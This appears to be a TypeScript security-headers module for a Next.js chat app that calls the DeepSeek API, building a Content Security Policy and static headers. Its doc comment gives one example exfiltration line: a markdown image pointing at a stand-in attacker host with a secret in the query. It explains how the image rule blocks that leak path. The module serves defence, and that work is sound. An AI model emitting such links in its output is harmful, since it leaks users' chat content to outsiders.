// Security headers. The CSP is per request (proxy.ts) because Next.js inlines bootstrap scripts
// that need a fresh nonce; the rest are static and set for every path in next.config.ts.

/**
 * - scripts: only this origin's bundles, started by nonce'd inline scripts ('strict-dynamic' lets
 *   those load the chunks they import); no eval in production.
 * - styles: 'unsafe-inline' because React writes `style` attributes, which nonces cannot cover;
 *   CSS cannot run script, and the no-remote-images rule below closes CSS exfiltration via url().
 * - images: only same-origin, data: and blob:. Markdown from the model may contain
 *   `![](https://evil.example/?q=secret)`; the browser refuses to load it, so model output cannot
 *   leak chat content through image URLs.
 * - connect: same origin only (the chat stream); the DeepSeek API is only ever called by the server.
 */
export function contentSecurityPolicy(nonce: string, dev = false): string {
  return [
    "default-src 'self'",
    `script-src 'self' 'nonce-${nonce}' 'strict-dynamic'${dev ? " 'unsafe-eval'" : ""}`,
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "font-src 'self' data:",
    `connect-src 'self'${dev ? " ws: wss:" : ""}`,
    "media-src 'self'",
    "object-src 'none'",
    "frame-src 'none'",
    "worker-src 'self' blob:",
    "manifest-src 'self'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join("; ");
}

export const STATIC_SECURITY_HEADERS: { key: string; value: string }[] = [
  { key: "X-Content-Type-Options", value: "nosniff" },
  { key: "X-Frame-Options", value: "DENY" },
  { key: "Referrer-Policy", value: "strict-origin-when-cross-origin" },
  { key: "Permissions-Policy", value: "camera=(), microphone=(), geolocation=(), payment=(), usb=(), interest-cohort=()" },
  { key: "Cross-Origin-Opener-Policy", value: "same-origin" },
  { key: "Cross-Origin-Resource-Policy", value: "same-origin" },
  { key: "X-DNS-Prefetch-Control", value: "off" },
];

/** HSTS only when the request reached us over HTTPS (directly or via a TLS-terminating proxy). */
export const HSTS = "max-age=63072000; includeSubDomains";

/** Hard cap on any request body, before a handler reads it (routes enforce tighter limits). */
export const MAX_REQUEST_BYTES = 1024 * 1024 + 64 * 1024;
